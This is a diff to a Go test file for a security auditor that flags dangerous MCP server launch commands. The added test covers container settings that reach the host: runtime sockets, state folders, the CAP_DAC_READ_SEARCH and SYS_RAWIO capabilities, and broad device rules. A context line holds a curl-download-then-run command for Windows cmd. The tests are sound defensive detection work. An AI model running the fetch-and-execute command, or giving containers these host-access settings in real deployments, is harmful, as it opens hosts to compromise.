@@ -3377,3 +3377,29 @@ func TestAuditDownloadsWrittenThenRun(t *testing.T) {
 		{"cmd's errors redirected and run", stdio("cmd", "/c", "curl -s https://x.example/i 2> a.bat & a.bat"), []string{fetch, shell, "warn shell_meta mcp.args[1]"}, true, true},
 	})
 }
+
+// A container given another runtime's socket (containerd, CRI-O,
+// BuildKit, Docker's named pipe), the runtimes' and the kubelet's state
+// folders, the capabilities that read any host file or do raw I/O, or a
+// device rule that opens every device or the host's disks, reaches the
+// host (ruleset 2026.12.100). Each passed with no finding.
+func TestAuditContainerRuntimeAccess(t *testing.T) {
+	const img = "mcp/x@sha256:0000000000000000000000000000000000000000000000000000000000000000"
+	reach := func(i int) []string { return []string{fmt.Sprintf("danger container_host_access mcp.args[%d]", i)} }
+	runCases(t, []auditCase{
+		{"containerd's socket", stdio("docker", "run", "-i", "--rm", "-v", "/run/containerd/containerd.sock:/run/containerd/containerd.sock", img), reach(4), true, false},
+		{"CRI-O's socket", stdio("podman", "run", "-i", "-v=/var/run/crio/crio.sock:/crio.sock", img), reach(2), true, false},
+		{"Docker's named pipe", stdio("docker", "run", "-i", "-v", `\\.\pipe\docker_engine:\\.\pipe\docker_engine`, img), reach(3), true, false},
+		{"Docker's state", stdio("docker", "run", "-i", "--volume", "/var/lib/docker:/docker", img), reach(3), true, false},
+		{"the kubelet's state", stdio("docker", "run", "-i", "--mount", "type=bind,source=/var/lib/kubelet,target=/k", img), reach(3), true, false},
+		{"CAP_DAC_READ_SEARCH", stdio("docker", "run", "-i", "--cap-add=CAP_DAC_READ_SEARCH", img), reach(2), true, false},
+		{"SYS_RAWIO", stdio("docker", "run", "-i", "--cap-add", "sys_rawio", img), reach(3), true, false},
+		{"every device", stdio("docker", "run", "-i", "--device-cgroup-rule", "a *:* rwm", img), reach(3), true, false},
+		{"the disks' devices", stdio("docker", "run", "-i", "--device-cgroup-rule=b 8:* rmw", img), reach(2), true, false},
+		// Look-alikes.
+		{"a volume's data", stdio("docker", "run", "-i", "-v", "/var/lib/docker/volumes/x/_data:/data", img), []string{}, true, false},
+		{"NET_ADMIN", stdio("docker", "run", "-i", "--cap-add=NET_ADMIN", img), []string{}, true, false},
+		{"a character device rule", stdio("docker", "run", "-i", "--device-cgroup-rule", "c 1:3 mr", img), []string{}, true, false},
+		{"a socket of the project", stdio("docker", "run", "-i", "-v", "./run/app.sock:/app.sock", img), []string{}, true, false},
+	})
+}
